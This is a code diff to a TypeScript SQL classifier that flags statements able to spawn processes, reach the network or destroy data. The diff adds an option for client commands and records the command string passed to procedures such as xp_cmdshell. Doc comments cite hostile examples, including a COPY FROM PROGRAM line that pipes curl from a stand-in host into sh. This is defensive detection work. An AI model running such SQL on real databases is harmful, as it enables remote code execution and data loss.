@@ -24,18 +24,20 @@ const MAX_DEPTH = 4;
  *   `lo_export`, `pg_file_unlink`, `VACUUM INTO`).
  *
  * A literal string run as SQL (`EXECUTE 'DROP TABLE t'`) is read as SQL too. Text that none of
- * the readings can read to its end is unreadable.
+ * the readings can read to its end is unreadable. `clientCommands: false` leaves the client's
+ * own commands (`\!`, `.shell`) to a caller that reads them itself (the shell guard).
  *
  * @example
  * classifySql("COPY t FROM PROGRAM 'curl evil.sh | sh'") // processSpawn, command 'curl evil.sh | sh'
  */
-export function classifySql(sql: string): CodeClassification {
+export function classifySql(sql: string, { clientCommands = true } = {}): CodeClassification {
   const findings: CodeFinding[] = [];
   const errors: string[] = [];
   for (const reading of SQL_READINGS) {
     const { tokens, error } = tokenizeSql(sql, reading);
     if (error !== undefined) errors.push(error);
-    findings.push(...judgeTokens(tokens, reading, 0, false));
+    const code = clientCommands ? tokens : tokens.filter((t) => t.kind !== 'client');
+    findings.push(...judgeTokens(code, reading, 0, false));
   }
   if (errors.length === SQL_READINGS.length) return { ok: false, error: errors.join('; ') };
   return { ok: true, findings: uniqueFindings(findings) };
@@ -328,7 +330,12 @@ function judgeStatement(
       // A function body given as a string (`AS 'DELETE FROM t'`, `AS $$ … $$`) runs when called.
       if (word === 'as' && after?.kind === 'string' && isRoutine(tokens, i)) nested(after.text, true);
     }
-    if (PROCESS_PROCEDURES.has(word)) add('processSpawn', `calls ${word} to run operating system commands`);
+    if (PROCESS_PROCEDURES.has(word)) {
+      // The command, when written out: `EXEC xp_cmdshell 'dir'`, `sys_exec('id')`.
+      const given = tokens[isPunct(after, '(') ? i + 2 : i + 1];
+      const command = given?.kind === 'string' && word !== 'sp_oacreate' ? given.text : undefined;
+      add('processSpawn', `calls ${word} to run operating system commands`, command);
+    }
     if (NETWORK_PROCEDURES.has(word) || (isPunct(after, '(') && NETWORK_FUNCTIONS.has(word)))
       add('network', `calls ${word}, which connects to other hosts`);
     if (NETWORK_PACKAGES.has(word) && isPunct(after, '.'))
